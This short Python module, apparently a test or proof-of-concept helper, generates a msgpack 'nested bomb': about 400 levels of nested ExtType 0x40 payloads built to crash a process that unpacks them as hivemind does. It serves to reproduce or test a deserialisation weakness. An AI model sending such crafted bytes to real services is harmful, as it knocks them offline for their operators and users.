"""Bytes that crash a process which unpacks them as hivemind does."""

from __future__ import annotations

import msgpack


def nested_bomb(levels: int = 400) -> bytes:
    """Tuples in tuples: 2 KB for 400 levels."""
    data = b"\x01"
    for _ in range(levels):
        data = msgpack.packb([msgpack.ExtType(0x40, data)])
    return bytes(data)
